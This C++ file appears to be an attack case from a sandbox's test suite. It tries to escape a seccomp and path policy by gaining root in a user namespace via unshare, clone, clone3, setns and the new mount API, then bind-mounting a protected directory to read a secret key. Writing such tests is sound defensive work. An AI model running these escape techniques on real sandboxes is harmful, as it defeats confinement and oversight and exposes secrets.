// attack: userns-and-mount-api
// class: indirect
// severity: critical
// models: naive
// needs: user-namespace
// trap: A user namespace makes anyone root in it; then a bind mount of $S onto $T/m makes $T/m/key an
//   allowed name. By unshare, clone, clone3 (whose flags lie in memory), setns to a child's; or a new
//   file system comes to lie where the work tree was, by fsopen, fsmount and move_mount.
// naive: Filters clone's flags, and forgets clone3 and the new mount calls.
// kernel: user_namespaces(7); clone3 takes a struct that seccomp cannot read.
// sealed: Namespaces and the mount API are refused; clone3 is ENOSYS, so that libc uses clone.
// source: CVE-2021-41133; bubblewrap and flatpak commentary
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network deny all
// report: none
#include <linux/sched.h>
#include <sys/mount.h>

#include "tests/support/attack.h"

namespace attack {
namespace {

// Whether this user may make namespaces here.
std::string_view unless_namespaces() {
  const pid_t child =
      spawn([] { finish(::unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 ? 0 : kHeld); });
  return reap(child) == 0 ? "" : "user namespaces are closed to this user";
}

[[noreturn]] void mount_and_take(const char* how) {
  std::string s = setting("ATTACK_S");
  std::string m = work("m");
  ::mkdir(m.c_str(), 0755);
  if (::mount(s.c_str(), m.c_str(), nullptr, MS_BIND, nullptr) == 0) {
    int fd = ::open(work("m/key").c_str(), O_RDONLY);
    std::string text = fd >= 0 ? read_all(fd) : "";
    ::umount2(m.c_str(), MNT_DETACH);
    if (!text.empty()) prey_taken(text);
  }
  int tree = static_cast<int>(::syscall(428 /* open_tree */, AT_FDCWD, s.c_str(), 1 /* CLONE */));
  if (tree >= 0) take(::openat(tree, "key", O_RDONLY));
  held(how);
}

void by_unshare() {
  if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) mount_and_take("unshare");
}
void by_clone() {
  const auto child = static_cast<pid_t>(
      ::syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, nullptr, nullptr, nullptr, 0));
  if (child == 0) mount_and_take("clone");
  if (child > 0 && reap(child) == 0) prey_taken("clone");
}
void by_clone3() {
  clone_args args{};
  args.flags = CLONE_NEWUSER | CLONE_NEWNS;
  args.exit_signal = SIGCHLD;
  const auto child = static_cast<pid_t>(::syscall(SYS_clone3, &args, sizeof args));
  if (child == 0) mount_and_take("clone3");
  if (child > 0 && reap(child) == 0) prey_taken("clone3");
}
// The namespaces of a child, by its entries in /proc or by a pidfd.
void by_setns(bool pidfd) {
  int go[2];
  must(::pipe(go) == 0, "pipe");
  const pid_t child = spawn([&] {
    const bool done = ::unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0;
    must(::write(go[1], done ? "x" : "-", 1) == 1, "write");
    ::prctl(PR_SET_PDEATHSIG, SIGKILL);
    ::pause();
  });
  char done = 0;
  must(::read(go[0], &done, 1) == 1, "the child");
  const std::string ns = "/proc/" + std::to_string(child) + "/ns/";
  const auto handle = static_cast<int>(::syscall(SYS_pidfd_open, child, 0));
  const int user = ::open((ns + "user").c_str(), O_RDONLY);
  const int mounts = ::open((ns + "mnt").c_str(), O_RDONLY);
  const bool joined =
      pidfd ? ::syscall(SYS_setns, handle, CLONE_NEWUSER | CLONE_NEWNS) == 0
            : ::syscall(SYS_setns, user, 0) == 0 && ::syscall(SYS_setns, mounts, 0) == 0;
  if (joined) mount_and_take("setns");
}
// A file system of one's own, with a link in it, in place of what the policy knows.
void by_new_mount() {
  if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return;
  const auto context = static_cast<int>(::syscall(430 /* fsopen */, "tmpfs", 0));
  ::syscall(431 /* fsconfig */, context, 6 /* CREATE */, nullptr, nullptr, 0);
  const auto mount = static_cast<int>(::syscall(432 /* fsmount */, context, 0, 0));
  if (mount < 0) return;
  if (::syscall(429 /* move_mount */, mount, "", AT_FDCWD, work("").c_str(), 4) == 0) {
    prey_taken("the work tree is another");
  }
}

void try_with_namespace(const char* name, void (*enter)()) {
  try_in_child(name, enter, wanted_way() != nullptr ? unless_namespaces() : "");
}

}  // namespace

void strike() {
  try_with_namespace("unshare", by_unshare);
  try_with_namespace("clone", by_clone);
  try_with_namespace("clone3", by_clone3);
  try_with_namespace("setns", [] { by_setns(false); });
  try_with_namespace("setns by pidfd", [] { by_setns(true); });
  try_with_namespace("fsmount", by_new_mount);
  if (way("chroot", unless_root()) && ::chroot(work("").c_str()) == 0) prey_taken("chroot");
  held("namespaces");
}

void twin() {
  pid_t child = ::fork();
  if (child == 0) finish(7);
  must(reap(child) == 7, "fork");
  clone_args args{};
  args.exit_signal = SIGCHLD;
  child = static_cast<pid_t>(::syscall(SYS_clone3, &args, sizeof args));
  if (child == 0) finish(8);
  must(child > 0 ? reap(child) == 8 : errno == ENOSYS, "clone3 works or is ENOSYS");
  must(::unshare(CLONE_FILES) == 0, "unshare(CLONE_FILES)");
  must(reads(work("ok.dat"), "harmless\n"), "files open");
  twin_ok();
}

}  // namespace attack
